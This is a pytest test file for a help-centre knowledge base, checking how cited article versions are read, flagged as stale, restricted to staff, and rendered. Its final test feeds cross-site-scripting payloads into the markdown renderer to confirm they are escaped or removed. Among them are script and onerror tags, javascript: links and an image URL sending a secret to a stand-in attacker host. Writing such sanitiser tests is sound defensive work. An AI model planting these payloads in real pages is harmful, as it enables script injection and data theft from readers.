"""A citation opens the version that was read, safe to show and honest about its age."""

from __future__ import annotations

from dataclasses import replace

import pytest

from knowledge.errors import ArticleNotFound
from knowledge.models import Chunk
from knowledge.reading import read_article
from knowledge.rendering import render_article
from tests.conftest import NOW
from tests.knowledge.conftest import ARTICLES, article

NEW_WINDOW = replace(ARTICLES[0], body=ARTICLES[0].body.replace("30 days", "60 days"))


def read(centre, doc_id="returns", version=None, principal=None):
    return read_article(
        principal=principal or centre.guest, doc_id=doc_id, version=version, now=NOW
    )


def test_read_current_article_is_not_stale(centre):
    for version in (None, 1):
        view = read(centre, version=version)
        assert (view.version, view.stale, view.current_version) == (1, False, 1)
        assert "30 days" in view.html


def test_read_cited_version_after_an_edit_is_stale(centre):
    centre.publish(NEW_WINDOW)
    view = read(centre, version=1)
    assert (view.version, view.stale, view.current_version) == (1, True, 2)
    assert "30 days" in view.html
    assert "60 days" in read(centre).html


def test_read_cited_version_after_archiving_stays_readable(centre):
    centre.archive("returns")
    view = read(centre, version=1)
    assert (view.stale, view.current_version) == (True, None)
    with pytest.raises(ArticleNotFound):
        read(centre)


@pytest.mark.parametrize(("doc_id", "version"), [("nothing", None), ("returns", 9), ("returns", 0)])
def test_read_missing_article_is_refused(centre, doc_id, version):
    with pytest.raises(ArticleNotFound):
        read(centre, doc_id, version)


def test_read_internal_article_is_for_staff(centre):
    assert "ZEBRA-77" in read(centre, "goodwill", principal=centre.staff).html
    with pytest.raises(ArticleNotFound):
        read(centre, "goodwill")


def test_anchor_of_every_hit_is_an_id_of_the_page(centre):
    body = "intro words\n\n## Same\n\n" + "one " * 50 + "\n\n## Same\n\n" + "two " * 50
    centre.publish(article("twice", "Über Größen & more", f"# Über Größen & more\n\n{body}"))
    for chunk in Chunk.objects.for_tenant(centre.tenant.pk).filter(kind="passage"):
        html = render_article(chunk.version.body)
        assert not chunk.anchor or f'id="{chunk.anchor}"' in html


@pytest.mark.parametrize(
    ("body", "shown", "never"),
    [
        ("<script>alert(1)</script>", "&lt;script&gt;", "<script"),
        ("<img src=x onerror=alert(1)>", "&lt;img", "<img"),
        ("![x](https://evil.example/?d=SECRET)", "", "evil.example"),
        ("[click](javascript:alert(1))", "click", 'href="javascript'),
        ("[click](data:text/html,hi)", "click", 'href="data'),
        ("[rules](https://shop.example/a)", 'rel="noopener noreferrer nofollow"', "<script"),
        ('## <b onmouseover="x">Head</b>', "&lt;b", "<b"),
        ("| a |\n|---|\n| <i>1</i> |", "<table>", "<i>"),
    ],
)
def test_render_untrusted_markdown_is_shown_as_text(body, shown, never):
    html = render_article(body)
    assert shown in html
    assert never not in html
